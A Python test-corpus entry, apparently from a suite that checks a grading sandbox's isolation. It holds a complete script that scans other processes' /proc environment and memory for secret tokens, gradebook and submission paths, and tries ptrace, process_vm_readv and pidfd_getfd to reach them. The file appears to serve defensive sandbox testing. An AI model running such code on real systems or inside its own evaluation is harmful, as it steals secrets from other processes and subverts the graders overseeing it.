"""Reads the environment, memory, files and root of every process that it can see."""

from hostile.corpus import Attack

attack = Attack(
    starts="right",
    added={
        "check-pad1d": """
import ctypes, os, re

libc = ctypes.CDLL(None, use_errno=True)
secret = re.compile(rb"SECRET-[0-9a-f]{16}|gradebook[.]db|/submitted/")

def read(path, start=0, size=1 << 20):
    with open(path, "rb", buffering=0) as file:
        file.seek(start)
        return file.read(size)

def pieces(pid):
    for name in ("environ", "cmdline", "mounts", "stack", "syscall", "io", "auxv"):
        yield f"/proc/{pid}/{name}", 0, 1 << 20
    for line in open(f"/proc/{pid}/maps"):
        low, high = (int(x, 16) for x in line.split()[0].split("-"))
        yield f"/proc/{pid}/mem", low, min(high - low, 1 << 24)

others = [int(p) for p in os.listdir("/proc") if p.isdecimal()]
others = [p for p in others if p != os.getpid()]
for pid in others:
    try:
        for piece in pieces(pid):
            try:
                if found := secret.search(read(*piece)):
                    print("REACHED", piece, found[0])
            except OSError:
                pass
    except OSError:
        pass
    for way in ("root", "cwd"):
        for path in ("solutions", "srv", "root", "var/lib", "etc/hostname"):
            if os.path.exists(f"/proc/{pid}/{way}/{path}"):
                print("REACHED", pid, way, path)
    if libc.ptrace(16, pid, None, None) == 0:
        print("REACHED ptrace", pid)
    buffer = (ctypes.c_char * 64)()
    if libc.syscall(310, pid, buffer, 1, buffer, 1, 0) > 0:
        print("REACHED process_vm_readv", pid)
    handle = libc.syscall(434, pid, 0)
    if handle >= 0 and any(libc.syscall(438, handle, n, 0) >= 0 for n in range(64)):
        print("REACHED pidfd_getfd", pid)
print("TRIED")
"""
    },
    tried=True,
)
